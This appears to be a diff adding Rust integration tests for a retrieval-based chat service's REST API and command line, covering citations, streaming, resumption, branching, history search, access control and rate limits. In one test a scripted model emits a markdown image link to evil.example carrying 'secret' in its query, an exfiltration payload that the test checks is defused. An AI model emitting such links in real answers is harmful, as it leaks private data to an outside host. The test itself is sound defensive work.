@@ -1,0 +1,684 @@
+//! Questions and answers through REST: asked of a scripted model, kept, followed, branched, judged, found again.
+
+use std::time::Duration;
+
+use reqwest::Method;
+use serde_json::{Value, json};
+use testkit::{Answer, Gate, LanguageModel, Server, TestApp, eventually};
+
+use crate::PROGRAM;
+
+const GATE: &str =
+    "# Timeouts\n\nThe gateway waits 30 seconds for a service. `--upstream-timeout` changes that.\n";
+
+/// A server that knows the gateway, and a model for it.
+async fn begin(app: &TestApp) -> (Server, LanguageModel) {
+    let model = LanguageModel::start().await;
+    let server = app.serve().await;
+    server.add("gate", "1.4", "timeouts.md", GATE).await;
+    let added = ["models", "add", "small", &model.url(), "--model", "any", "--default"];
+    app.run(&added).await.succeeded();
+    (server, model)
+}
+
+async fn new_chat(server: &Server, body: Value) -> String {
+    let made = server.send(server.request(Method::POST, "/api/v1/chats", &[]).json(&body)).await;
+    assert_eq!(made.status, 201, "{}", made.text());
+    made.value()["id"].as_str().expect("an id").to_owned()
+}
+
+async fn ask(server: &Server, chat: &str, body: Value) -> Value {
+    let path = format!("/api/v1/chats/{chat}/messages");
+    server.send(server.request(Method::POST, &path, &[]).json(&body)).await.ok()
+}
+
+/// A member of each item.
+fn column(items: &Value, member: &str) -> Vec<String> {
+    let items = items.as_array().unwrap_or_else(|| panic!("no list: {items}"));
+    items.iter().map(|item| item[member].as_str().expect("a text").to_owned()).collect()
+}
+
+/// An event of a stream: its name, its id, its data.
+#[derive(Debug, Clone)]
+struct Event {
+    name: String,
+    id: String,
+    data: Value,
+}
+
+/// A stream that is read event by event.
+struct Events {
+    response: reqwest::Response,
+    read: String,
+}
+
+impl Events {
+    async fn open(request: reqwest::RequestBuilder) -> Self {
+        let response = request.header("accept", "text/event-stream").send().await.expect("an answer");
+        assert_eq!(response.status(), 200);
+        assert_eq!(response.headers()["content-type"], "text/event-stream");
+        Self { response, read: String::new() }
+    }
+
+    async fn asked(server: &Server, chat: &str, body: &Value) -> Self {
+        let path = format!("/api/v1/chats/{chat}/messages");
+        Self::open(server.request(Method::POST, &path, &[]).json(body)).await
+    }
+
+    async fn followed(server: &Server, answer: &str, last: Option<&str>) -> Self {
+        let path = format!("/api/v1/messages/{answer}/events");
+        let request = server.request(Method::GET, &path, &[]);
+        Self::open(match last {
+            Some(last) => request.header("last-event-id", last),
+            None => request,
+        })
+        .await
+    }
+
+    async fn next(&mut self) -> Option<Event> {
+        loop {
+            if let Some((event, rest)) = self.read.split_once("\n\n") {
+                let (event, rest) = (event.to_owned(), rest.to_owned());
+                self.read = rest;
+                let member = |name: &str| {
+                    let lines = event.lines().filter_map(|line| line.strip_prefix(name)?.strip_prefix(": "));
+                    lines.collect::<Vec<_>>().join("\n")
+                };
+                if member("event").is_empty() {
+                    continue;
+                }
+                let data = serde_json::from_str(&member("data")).expect("JSON");
+                return Some(Event { name: member("event"), id: member("id"), data });
+            }
+            let piece = tokio::time::timeout(Duration::from_mins(1), self.response.chunk()).await;
+            let piece = piece.expect("an event within a minute").ok()??;
+            self.read.push_str(&String::from_utf8_lossy(&piece));
+        }
+    }
+
+    async fn until(&mut self, name: &str) -> Event {
+        loop {
+            let event = self.next().await.unwrap_or_else(|| panic!("the stream ended before {name}"));
+            if event.name == name {
+                return event;
+            }
+        }
+    }
+
+    async fn rest(mut self) -> Vec<Event> {
+        let mut events = Vec::new();
+        while let Some(event) = self.next().await {
+            events.push(event);
+        }
+        events
+    }
+}
+
+fn text_of(events: &[Event]) -> String {
+    events.iter().filter_map(|event| event.data["text"].as_str()).collect()
+}
+
+#[tokio::test]
+async fn an_answer_cites_what_the_model_was_given_and_says_what_is_wrong_with_it() {
+    let app = TestApp::new(PROGRAM).await;
+    let (server, model) = begin(&app).await;
+    model.script([Answer::streaming(&[
+        "It waits 30 sec",
+        "onds [1]. Bananas ripen quickly [1]. ",
+        "More is in [7]. ![x](https://evil.exa",
+        "mple/?q=secret)",
+    ])]);
+    let chat = new_chat(&server, json!({ "library": "gate" })).await;
+    let events = Events::asked(&server, &chat, &json!({ "content": "How long does the gateway wait?" }))
+        .await
+        .rest()
+        .await;
+    let names: Vec<&str> = events.iter().map(|event| event.name.as_str()).collect();
+    assert_eq!((names[0], names[1], names[names.len() - 1]), ("begun", "sources", "end"), "{names:?}");
+    let end = &events[events.len() - 1].data;
+    let answer = "It waits 30 seconds [1]. Bananas ripen quickly [1]. More is in . [x] (`https://evil.example/?q=secret`)";
+    assert_eq!(text_of(&events), answer);
+    assert_eq!(end["content"], answer);
+    assert_eq!(end["status"], "complete");
+    assert_eq!(end["metadata"]["dropped_citations"], 1);
+    assert_eq!(end["metadata"]["unsupported"], json!([[25, 51]]));
+    assert_eq!(end["metadata"]["usage"], json!({ "prompt_tokens": 12, "completion_tokens": 7 }));
+    // What the model was given: numbered, fenced, word for word.
+    let asked = model.request(0).await;
+    assert!(asked.system_prompt().contains("[1] gate 1.4 | Timeouts"), "{}", asked.system_prompt());
+    assert!(asked.system_prompt().contains("waits 30 seconds for a service"), "{}", asked.system_prompt());
+    assert_eq!(asked.last_question(), "How long does the gateway wait?");
+    // It is kept with its source, whose passage opens.
+    let opened = server.json(&format!("/api/v1/chats/{chat}")).await;
+    assert_eq!(opened["title"], "How long does the gateway wait?");
+    assert_eq!(column(&opened["messages"], "role"), ["user", "assistant"]);
+    let kept = &opened["messages"][1];
+    assert_eq!(kept["content"], answer);
+    let source = &kept["sources"][0];
+    assert_eq!(
+        (&source["number"], &source["cited"], &source["follows_active"]),
+        (&json!(1), &json!(true), &json!(true))
+    );
+    let passage = server.json(source["url"].as_str().unwrap()).await;
+    assert_eq!((&passage["content"], &passage["sha256"]), (&source["content"], &source["sha256"]));
+}
+
+#[tokio::test]
+async fn without_a_model_the_passages_are_the_answer_and_nothing_is_made_up() {
+    let app = TestApp::new(PROGRAM).await;
+    let server = app.serve().await;
+    server.add("gate", "1.4", "timeouts.md", GATE).await;
+    let chat = new_chat(&server, json!({ "library": "gate" })).await;
+    let told = ask(&server, &chat, json!({ "content": "How long does the gateway wait?" })).await;
+    let answer = &told["answer"];
+    assert_eq!(answer["metadata"]["mode"], "passages");
+    let text = answer["content"].as_str().unwrap();
+    assert!(
+        text.starts_with("No language model is set up")
+            && text.contains("[1]")
+            && text.contains("30 seconds"),
+        "{text}"
+    );
+    assert_eq!(answer["sources"][0]["cited"], true);
+    let told =
+        ask(&server, &chat, json!({ "content": "Which recipe for apple pie uses cinnamon and butter?" }))
+            .await;
+    assert_eq!(told["answer"]["metadata"]["mode"], "nothing_found");
+    assert!(told["answer"]["sources"].as_array().unwrap().is_empty());
+    // An absent version is refused before anything is written, and nothing is answered from another.
+    let path = format!("/api/v1/chats/{chat}/messages");
+    let body = json!({ "content": "How long?", "library": "gate", "version": "9" });
+    let refused = server.send(server.request(Method::POST, &path, &[]).json(&body)).await.problem(404);
+    assert_eq!(refused["present"], json!(["1.4"]));
+    assert_eq!(server.json(&path).await["items"].as_array().unwrap().len(), 4);
+}
+
+#[tokio::test]
+async fn nothing_relevant_means_that_no_model_is_asked() {
+    let app = TestApp::new(PROGRAM).await;
+    let (server, model) = begin(&app).await;
+    let chat = new_chat(&server, json!({})).await;
+    let told = ask(&server, &chat, json!({ "content": "苹果派需要多少肉桂和黄油？" })).await;
+    assert_eq!(told["answer"]["metadata"]["mode"], "nothing_found");
+    assert!(told["answer"]["content"].as_str().unwrap().starts_with("没有找到"));
+    assert_eq!(model.count(), 0);
+}
+
+#[tokio::test]
+async fn a_broken_stream_is_taken_up_again_and_the_model_is_asked_once() {
+    let app = TestApp::new(PROGRAM).await;
+    let (server, model) = begin(&app).await;
+    let gate = Gate::new();
+    model.script([Answer::streaming(&["It waits ", "30 seconds [1]."]).gated_after(1, &gate)]);
+    let chat = new_chat(&server, json!({ "library": "gate" })).await;
+    let mut stream =
+        Events::asked(&server, &chat, &json!({ "content": "How long does the gateway wait?" })).await;
+    let answer = stream.until("begun").await.data["answer_id"].as_str().unwrap().to_owned();
+    let seen = stream.until("text").await;
+    assert_eq!(seen.data["text"], "It waits ");
+    drop(stream);
+    // While it is written it can be looked at, and a second question waits.
+    let path = format!("/api/v1/chats/{chat}/messages");
+    let body = json!({ "content": "And then?" });
+    server.send(server.request(Method::POST, &path, &[]).json(&body)).await.problem(409);
+    gate.open();
+    let rest = Events::followed(&server, &answer, Some(&seen.id)).await.rest().await;
+    assert_eq!(text_of(&rest), "30 seconds [1].");
+    assert_eq!(rest[rest.len() - 1].data["content"], "It waits 30 seconds [1].");
+    // After the end it is told again, whole.
+    let whole = Events::followed(&server, &answer, None).await.rest().await;
+    assert_eq!(text_of(&whole), "It waits 30 seconds [1].");
+    assert_eq!(whole[0].name, "sources");
+    assert_eq!(model.count(), 1);
+}
+
+#[tokio::test]
+async fn an_answer_can_be_stopped_and_what_there_is_of_it_stays() {
+    let app = TestApp::new(PROGRAM).await;
+    let (server, model) = begin(&app).await;
+    let gate = Gate::new();
+    model.script([Answer::streaming(&["It waits 30 seconds [1]. ", "And more."]).gated_after(1, &gate)]);
+    let chat = new_chat(&server, json!({ "library": "gate" })).await;
+    let mut stream =
+        Events::asked(&server, &chat, &json!({ "content": "How long does the gateway wait?" })).await;
+    let answer = stream.until("begun").await.data["answer_id"].as_str().unwrap().to_owned();
+    stream.until("text").await;
+    assert_eq!(server.post(&format!("/api/v1/messages/{answer}/stop")).await.status, 204);
+    let end = stream.until("end").await;
+    assert_eq!(
+        (&end.data["status"], &end.data["content"]),
+        (&json!("stopped"), &json!("It waits 30 seconds [1]. "))
+    );
+    // The model is hung up on.
+    model.wait_for_disconnects(1).await;
+    let kept = server.json(&format!("/api/v1/messages/{answer}")).await;
+    assert_eq!((&kept["status"], &kept["sources"][0]["cited"]), (&json!("stopped"), &json!(true)));
+}
+
+#[tokio::test]
+async fn a_server_that_dies_keeps_the_question_and_the_part_of_the_answer() {
+    let app = TestApp::new(PROGRAM).await;
+    let (server, model) = begin(&app).await;
+    let gate = Gate::new();
+    model.script([Answer::streaming(&["It waits 30 seconds [1].", " And"]).gated_after(1, &gate)]);
+    let chat = new_chat(&server, json!({ "library": "gate" })).await;
+    let mut stream =
+        Events::asked(&server, &chat, &json!({ "content": "How long does the gateway wait?" })).await;
+    let answer = stream.until("begun").await.data["answer_id"].as_str().unwrap().to_owned();
+    stream.until("text").await;
+    let path = format!("/api/v1/messages/{answer}");
+    eventually("the part of the answer in the database", async || {
+        let other = server.json(&path).await;
+        (other["content"] == "It waits 30 seconds [1].").then_some(())
+    })
+    .await;
+    server.kill();
+    let server = app.serve().await;
+    let kept = eventually("the mark", async || {
+        let kept = server.json(&path).await;
+        (kept["status"] == "interrupted").then_some(kept)
+    })
+    .await;
+    assert_eq!(kept["content"], "It waits 30 seconds [1].");
+    assert_eq!(kept["sources"][0]["library"], "gate");
+    // Following it ends at once, and asking again works.
+    let events = Events::followed(&server, &answer, None).await.rest().await;
+    assert_eq!(events[events.len() - 1].data["status"], "interrupted");
+    model.script([Answer::streaming(&["It waits 30 seconds [1]."])]);
+    let again = ask(&server, &chat, json!({ "again": answer })).await;
+    assert_eq!(again["answer"]["status"], "complete");
+    assert_eq!(again["answer"]["siblings"].as_array().unwrap().len(), 2);
+}
+
+#[tokio::test]
+async fn a_stop_of_the_server_marks_what_it_was_writing() {
+    let app = TestApp::new(PROGRAM).await;
+    let (server, model) = begin(&app).await;
+    let gate = Gate::new();
+    model.script([Answer::streaming(&["It waits", " 30"]).gated_after(1, &gate)]);
+    let chat = new_chat(&server, json!({ "library": "gate" })).await;
+    let mut stream =
+        Events::asked(&server, &chat, &json!({ "content": "How long does the gateway wait?" })).await;
+    stream.until("text").await;
+    server.terminate();
+    assert_eq!(stream.until("end").await.data["status"], "interrupted");
+    drop(stream);
+    assert!(server.stop().await.success());
+    let server = app.serve().await;
+    let opened = server.json(&format!("/api/v1/chats/{chat}")).await;
+    assert_eq!(opened["messages"][1]["status"], "interrupted");
+}
+
+#[tokio::test]
+async fn a_conversation_is_searched_as_one_question() {
+    let app = TestApp::new(PROGRAM).await;
+    let (server, model) = begin(&app).await;
+    let chat = new_chat(&server, json!({ "library": "gate" })).await;
+    model.script([
+        Answer::streaming(&["It waits 30 seconds [1]."]),
+        Answer::streaming(&["Query: \"gateway upstream-timeout change\""]),
+        Answer::streaming(&["With `--upstream-timeout` [1]."]),
+    ]);
+    ask(&server, &chat, json!({ "content": "How long does the gateway wait?" })).await;
+    let told = ask(&server, &chat, json!({ "content": "How do I change that?" })).await;
+    assert_eq!(told["answer"]["metadata"]["query"], "gateway upstream-timeout change");
+    assert_eq!(told["answer"]["content"], "With `--upstream-timeout` [1].");
+    let condensing = model.request(1).await;
+    assert!(condensing.last_question().ends_with("Last question: How do I change that?"));
+    // The conversation goes along, without numbers that would mean other sources now.
+    let messages = model.request(2).await.body["messages"].clone();
+    assert_eq!(messages[1]["content"], "How long does the gateway wait?");
+    assert_eq!(messages[2]["content"], "It waits 30 seconds.");
+    // What a model makes of a conversation may be worse than its words: then these are searched.
+    model.script([
+        Answer::streaming(&["apple pie with cinnamon"]),
+        Answer::streaming(&["With `--upstream-timeout` [1]."]),
+    ]);
+    let told = ask(&server, &chat, json!({ "content": "And how do I change the gateway?" })).await;
+    assert_eq!(
+        (&told["answer"]["metadata"]["mode"], &told["answer"]["sources"][0]["library"]),
+        (&json!("model"), &json!("gate"))
+    );
+}
+
+#[tokio::test]
+async fn edits_and_second_answers_stand_beside_the_earlier_ones() {
+    let app = TestApp::new(PROGRAM).await;
+    let (server, model) = begin(&app).await;
+    model.answer_with(|_asked| Answer::streaming(&["It waits [1]."]));
+    let chat = new_chat(&server, json!({ "library": "gate" })).await;
+    let first = ask(&server, &chat, json!({ "content": "How long does the gateway wait?" })).await;
+    let (question, answer) = (&first["question_id"], &first["answer"]["message_id"]);
+    let again = ask(&server, &chat, json!({ "again": answer })).await;
+    assert_eq!(&again["question_id"], question);
+    assert_eq!(again["answer"]["siblings"], json!([answer, again["answer"]["message_id"]]));
+    let edit = ask(
+        &server,
+        &chat,
+        json!({ "content": "How long does the gateway wait, in seconds?", "edit": question }),
+    )
+    .await;
+    let opened = server.json(&format!("/api/v1/chats/{chat}")).await;
+    assert_eq!(opened["messages"][0]["siblings"], json!([question, edit["question_id"]]));
+    assert_eq!(opened["messages"].as_array().unwrap().len(), 2);
+    // The earlier branch is chosen again.
+    let chosen = server.patch(&format!("/api/v1/chats/{chat}"), &json!({ "current": question })).await.ok();
+    assert_eq!(chosen["current"], again["answer"]["message_id"]);
+    let messages = server.json(&format!("/api/v1/chats/{chat}/messages")).await;
+    assert_eq!(&messages["items"][0]["message_id"], question);
+    let all = server.json(&format!("/api/v1/chats/{chat}/messages?all=true")).await;
+    assert_eq!(all["items"].as_array().unwrap().len(), 5);
+    let path = format!("/api/v1/chats/{chat}/messages");
+    let wrong = server
+        .send(server.request(Method::POST, &path, &[]).json(&json!({ "content": "x", "edit": answer })))
+        .await;
+    wrong.problem(400);
+}
+
+#[tokio::test]
+async fn chats_are_listed_renamed_put_away_deleted_and_brought_back() {
+    let app = TestApp::new(PROGRAM).await;
+    let server = app.serve().await;
+    let mut made = Vec::new();
+    for title in ["one", "two", "three"] {
+        made.push(new_chat(&server, json!({ "title": title })).await);
+    }
+    let titles =
+        async |query: &str| column(&server.json(&format!("/api/v1/chats{query}")).await["items"], "title");
+    assert_eq!(titles("").await, ["three", "two", "one"]);
+    let one = format!("/api/v1/chats/{}", made[0]);
+    server.patch(&one, &json!({ "pinned": true, "title": "  the\n first " })).await.ok();
+    assert_eq!(titles("").await, ["the first", "three", "two"]);
+    let page = server.json("/api/v1/chats?limit=2").await;
+    let next = format!("?limit=2&cursor={}", page["next"].as_str().unwrap());
+    assert_eq!(titles(&next).await, ["two"]);
+    server.patch(&format!("/api/v1/chats/{}", made[1]), &json!({ "archived": true })).await.ok();
+    assert_eq!(titles("?which=archived").await, ["two"]);
+    assert_eq!(server.delete(&one).await.status, 204);
+    assert_eq!(
+        (titles("").await, titles("?which=deleted").await),
+        (vec!["three".to_owned()], vec!["the first".to_owned()])
+    );
+    server.post(&format!("{one}/restore")).await.ok();
+    assert_eq!(titles("").await, ["the first", "three"]);
+    for wrong in [json!({ "title": " " }), json!({ "version": "1" }), json!({ "focus_mode": "telepathy" })] {
+        server.patch(&one, &wrong).await.problem(400);
+    }
+}
+
+#[tokio::test]
+async fn what_was_deleted_long_ago_is_gone_with_its_words() {
+    let app = TestApp::new(PROGRAM).await;
+    let server = app.serve().await;
+    server.add("gate", "1.4", "timeouts.md", GATE).await;
+    let chat = new_chat(&server, json!({})).await;
+    ask(&server, &chat, json!({ "content": "How long does the gateway wait?" })).await;
+    server.delete(&format!("/api/v1/chats/{chat}")).await;
+    let database = app.database();
+    database.run("update chat.chats set deleted_at = now() - interval '31 days'").await;
+    database.run("update chat.quotes set used_at = now() - interval '2 days'").await;
+    drop(server);
+    let _server = app.serve().await;
+    eventually("the end of what was deleted", async || {
+        let left = "select (select count(*) from chat.messages) + (select count(*) from chat.quotes)";
+        (database.count(left).await == 0).then_some(())
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn ones_own_history_is_found_in_both_languages_and_nobody_elses() {
+    let app = TestApp::new(PROGRAM).await;
+    let server = app.serve().await;
+    let admin = server.set_up().await;
+    let (ada, bo) = (server.person(&admin, "ada2", "user").await, server.person(&admin, "bo", "user").await);
+    let of = |person: &testkit::Person| person.access_token.clone();
+    let mut chats = Vec::new();
+    for (person, question) in [
+        (&ada, "How do timeouts of the gateway work?"),
+        (&ada, "数据库的备份怎样恢复？"),
+        (&bo, "Which timeouts are there?"),
+    ] {
+        let made =
+            server.ask(Some(&of(person)), Method::POST, "/api/v1/chats", Some(json!({}))).await.value();
+        let path = format!("/api/v1/chats/{}", made["id"].as_str().unwrap());
+        let asked = Some(json!({ "content": question }));
+        assert_eq!(
+            server.ask(Some(&of(person)), Method::POST, &format!("{path}/messages"), asked).await.status,
+            200
+        );
+        chats.push(path);
+    }
+    let found = async |person: &testkit::Person, words: &str| {
+        let path = format!("/api/v1/history/search?q={words}");
+        let page = server.ask(Some(&of(person)), Method::GET, &path, None).await.value();
+        // A question and its answer may hold the same words.
+        let mut titles = column(&page["items"], "title");
+        titles.dedup();
+        titles
+    };
+    assert_eq!(found(&ada, "timeout").await, ["How do timeouts of the gateway work?"]);
+    assert_eq!(found(&ada, "恢复 备份").await, ["数据库的备份怎样恢复？"]);
+    assert_eq!(found(&bo, "timeout").await, ["Which timeouts are there?"]);
+    assert!(found(&bo, "备份").await.is_empty());
+    // Others' chats do not exist, whoever one is.
+    for (method, path) in [
+        (Method::GET, chats[0].clone()),
+        (Method::GET, format!("{}/messages", chats[0])),
+        (Method::DELETE, chats[0].clone()),
+        (Method::POST, format!("{}/restore", chats[0])),
+    ] {
+        for other in [&of(&bo), &admin.access_token] {
+            let reply = server.ask(Some(other), method.clone(), &path, None).await;
+            assert_eq!(reply.status, 404, "{method} {path}");
+        }
+        assert_eq!(server.ask(None, method, &path, None).await.status, 401);
+    }
+    // A key reaches its user's history only if it was made for that.
+    // One that is confined to libraries does not: the history quotes others too.
+    for (name, scopes, libraries, status) in [
+        ("reads", json!(["read"]), Value::Null, 403),
+        ("confined", json!(["read", "chats"]), json!(["wenyuan"]), 403),
+        ("chats", json!(["read", "chats"]), Value::Null, 200),
+    ] {
+        let body = json!({ "name": name, "scopes": scopes, "libraries": libraries });
+        let key = server.ask(Some(&of(&ada)), Method::POST, "/api/v1/keys", Some(body)).await.value();
+        let reply = server.ask(key["key"].as_str(), Method::GET, &chats[0], None).await;
+        assert_eq!(reply.status, status);
+    }
+}
+
+#[tokio::test]
+async fn an_answer_is_judged_by_its_owner() {
+    let app = TestApp::new(PROGRAM).await;
+    let server = app.serve().await;
+    server.add("gate", "1.4", "timeouts.md", GATE).await;
+    let chat = new_chat(&server, json!({ "library": "gate" })).await;
+    let told = ask(&server, &chat, json!({ "content": "How long does the gateway wait?" })).await;
+    let path = format!("/api/v1/messages/{}/verdict", told["answer"]["message_id"].as_str().unwrap());
+    let put = async |body: Value| server.send(server.request(Method::PUT, &path, &[]).json(&body)).await;
+    put(json!({ "verdict": "splendid" })).await.problem(400);
+    let said =
+        put(json!({ "verdict": "wrong", "reason": "It is 10.", "correction": "10 seconds" })).await.ok();
+    assert_eq!(
+        said["verdict"],
+        json!({ "verdict": "wrong", "reason": "It is 10.", "correction": "10 seconds" })
+    );
+    let question = format!("/api/v1/messages/{}/verdict", told["question_id"].as_str().unwrap());
+    let body = json!({ "verdict": "good" });
+    server.send(server.request(Method::PUT, &question, &[]).json(&body)).await.problem(400);
+    assert_eq!(server.delete(&path).await.status, 204);
+    let opened = server.json(&format!("/api/v1/chats/{chat}")).await;
+    assert_eq!(opened["messages"][1]["verdict"], Value::Null);
+}
+
+#[tokio::test]
+async fn a_model_that_fails_leaves_the_passages_and_one_that_breaks_off_its_words() {
+    let app = TestApp::new(PROGRAM).await;
+    let (server, model) = begin(&app).await;
+    let chat = new_chat(&server, json!({ "library": "gate" })).await;
+    model.script([Answer::status(401, r#"{"error":{"message":"bad key sk-secret"}}"#)]);
+    let told = ask(&server, &chat, json!({ "content": "How long does the gateway wait?" })).await;
+    let answer = &told["answer"];
+    assert_eq!((&answer["status"], &answer["metadata"]["mode"]), (&json!("complete"), &json!("passages")));
+    assert!(answer["content"].as_str().unwrap().contains("The language model did not answer"), "{answer}");
+    assert!(!answer.to_string().contains("sk-secret"));
+    model.script([Answer::streaming(&["It waits 30 seconds [1]. ", "And"]).disconnecting_after(1)]);
+    let told = ask(&server, &chat, json!({ "again": answer["message_id"] })).await;
+    let answer = &told["answer"];
+    assert_eq!(answer["status"], "interrupted");
+    assert_eq!(answer["content"], "It waits 30 seconds [1]. ");
+    assert!(answer["metadata"]["error"].as_str().is_some());
+    assert_eq!(answer["sources"][0]["cited"], true);
+}
+
+#[tokio::test]
+async fn opening_a_chat_of_any_length_takes_two_statements() {
+    let app = TestApp::new(PROGRAM).await;
+    let server = app.serve().await;
+    let chat = new_chat(&server, json!({})).await;
+    app
+        .database()
+        .run(
+            "do $$ declare last int8; chat uuid := (select id from chat.chats); begin
+               for n in 1..300 loop
+                 insert into chat.messages (message_id, chat_id, parent_id, role, content)
+                 values (gen_random_uuid(), chat, last, case n % 2 when 1 then 'user' else 'assistant' end, 'message ' || n)
+                 returning id into last;
+               end loop;
+               update chat.chats set current_id = last;
+             end $$",
+        )
+        .await;
+    let path = format!("/api/v1/chats/{chat}");
+    server.json(&path).await;
+    let before = statements(&server).await;
+    let opened = server.json(&path).await;
+    assert_eq!(statements(&server).await - before, 2);
+    assert_eq!(opened["messages"].as_array().unwrap().len(), 50);
+    assert_eq!(opened["messages"][49]["content"], "message 300");
+    // Page by page to the beginning.
+    let mut next = opened["next"].as_str().map(str::to_owned);
+    let mut first = opened["messages"][0]["content"].clone();
+    let mut pages = 1;
+    while let Some(cursor) = next {
+        let page = server.json(&format!("{path}?cursor={cursor}")).await;
+        first = page["messages"][0]["content"].clone();
+        next = page["next"].as_str().map(str::to_owned);
+        pages += 1;
+    }
+    assert_eq!((first, pages), (json!("message 1"), 6));
+}
+
+/// Statements of chats and messages that the server has run so far, by its own metrics.
+async fn statements(server: &Server) -> u64 {
+    let text = server.get("/metrics", &[]).await.text();
+    let of_chats = text.lines().filter(|line| {
+        line.starts_with("wenyuan_statement_seconds_count")
+            && (line.contains("\"chats.") || line.contains("\"messages."))
+    });
+    of_chats.filter_map(|line| line.rsplit(' ').next()?.parse::<u64>().ok()).sum()
+}
+
+#[tokio::test]
+async fn the_command_line_asks_goes_on_and_finds_it_again() {
+    let app = TestApp::new(PROGRAM).await;
+    let (server, model) = begin(&app).await;
+    drop(server);
+    model.script([Answer::streaming(&["It waits ", "30 seconds [1]. Bananas [1]."])]);
+    let asked = app.run(&["ask", "How long does the gateway wait?", "--library", "gate"]).await;
+    assert!(asked.errors.contains("1 sentences share no word"), "{asked:?}");
+    let chat = asked
+        .errors
+        .split("--chat ")
+        .nth(1)
+        .expect("a chat")
+        .split_whitespace()
+        .next()
+        .expect("an id")
+        .to_owned();
+    let text = asked.succeeded();
+    assert!(text.starts_with("It waits 30 seconds [1]. Bananas [1].\n\n[1] gate 1.4  timeouts.md"), "{text}");
+    model.script([
+        Answer::streaming(&["gateway upstream-timeout"]),
+        Answer::streaming(&["With `--upstream-timeout` [1]."]),
+    ]);
+    let next = app.run(&["ask", "--last", "How", "do", "I", "change", "that?", "--json"]).await.json();
+    assert_eq!((&next["chat_id"], &next["status"]), (&json!(chat), &json!("complete")));
+    // What is asked to be forgotten is.
+    model.script([Answer::streaming(&["It waits [1]."])]);
+    app.run(&["ask", "--forget", "How long does the gateway wait?", "-l", "gate"]).await.succeeded();
+    let listed = app.run(&["chats", "--json"]).await.json();
+    assert_eq!(column(&listed["items"], "id"), std::slice::from_ref(&chat));
+    let found = app.run(&["chats", "search", "upstream-timeout"]).await.succeeded();
+    assert!(found.contains("How long does the gateway wait?") && found.contains(&chat), "{found}");
+    let shown = app.run(&["chats", "show", &chat, "--json"]).await.json();
+    assert_eq!(column(&shown["messages"], "role"), ["user", "assistant", "user", "assistant"]);
+    let answer = shown["messages"][3]["message_id"].as_str().expect("an id").to_owned();
+    app.run(&["chats", "judge", &answer, "wrong", "--reason", "It is another option."]).await.succeeded();
+    app.run(&["chats", "rename", &chat, "Timeouts"]).await.succeeded();
+    app.run(&["chats", "delete", &chat]).await.succeeded();
+    assert!(app.run(&["chats", "list", "--deleted"]).await.succeeded().contains("Timeouts"));
+    app.run(&["chats", "restore", &chat]).await.succeeded();
+    assert!(app.run(&["chats", "show", &chat]).await.succeeded().contains("wrong"));
+    // What cannot be answered as it is asked is refused, and leaves no empty chat.
+    let refused = app.run(&["ask", "How long?", "-l", "gate", "-V", "9"]).await.failed();
+    assert!(refused.contains("gate has no version 9; it has 1.4"), "{refused}");
+    let refused = app.run(&["ask", "How long?", "-m", "large"]).await.failed();
+    assert!(refused.contains("small"), "{refused}");
+    assert_eq!(app.run(&["chats", "--json"]).await.json()["items"].as_array().map(Vec::len), Some(1));
+    // An answer that cites nothing says so, and shows what the model was given.
+    model.script([Answer::streaming(&["It waits half a minute."])]);
+    let uncited = app.run(&["ask", "How long does the gateway wait?", "-l", "gate"]).await;
+    assert!(uncited.errors.contains("the answer cites nothing"), "{uncited:?}");
+    assert!(uncited.succeeded().contains("[1] gate 1.4  timeouts.md"));
+}
+
+#[tokio::test]
+async fn appending_takes_a_fixed_number_of_statements() {
+    let app = TestApp::new(PROGRAM).await;
+    let server = app.serve().await;
+    let chat = new_chat(&server, json!({ "library": "wenyuan" })).await;
+    let question = json!({ "content": "Zzyzx qwrtpl?" });
+    ask(&server, &chat, question.clone()).await;
+    // Looked up, put in its app, written, read for the conversation, ended, and read again for the answer: the chat as it is,
+    // one message more or hundreds.
+    for _ in 0..2 {
+        let before = statements(&server).await;
+        ask(&server, &chat, question.clone()).await;
+        assert_eq!(statements(&server).await - before, 8);
+    }
+}
+
+#[tokio::test]
+async fn one_person_does_not_take_all_the_answers() {
+    let app = TestApp::new(PROGRAM).await;
+    let (server, model) = begin(&app).await;
+    app.run(&["models", "change", "small", "--concurrency", "100"]).await.succeeded();
+    model.answer_with(|_asked| Answer::streaming(&["It waits", " 30"]).hanging_after(1));
+    let mut streams = Vec::new();
+    let question = json!({ "content": "How long does the gateway wait?" });
+    for _ in 0..50 {
+        let chat = new_chat(&server, json!({ "library": "gate" })).await;
+        let mut stream = Events::asked(&server, &chat, &question).await;
+        let begun = stream.until("begun").await;
+        streams.push((stream, begun.data["answer_id"].as_str().expect("an id").to_owned()));
+    }
+    let chat = new_chat(&server, json!({ "library": "gate" })).await;
+    let path = format!("/api/v1/chats/{chat}/messages");
+    let refused = server.send(server.request(Method::POST, &path, &[]).json(&question)).await;
+    assert_eq!(refused.header("retry-after"), Some("5"));
+    refused.problem(429);
+    // Others are answered, and with one stopped there is room again.
+    let admin = server.set_up().await;
+    let other = json!({ "question": "Zzyzx qwrtpl?" });
+    assert_eq!(
+        server.ask(Some(&admin.access_token), Method::POST, "/api/v1/ask", Some(other)).await.status,
+        200
+    );
+    let (mut stream, answer) = streams.pop().expect("a stream");
+    assert_eq!(server.post(&format!("/api/v1/messages/{answer}/stop")).await.status, 204);
+    stream.until("end").await;
+    let mut stream = Events::asked(&server, &chat, &question).await;
+    stream.until("text").await;
+}
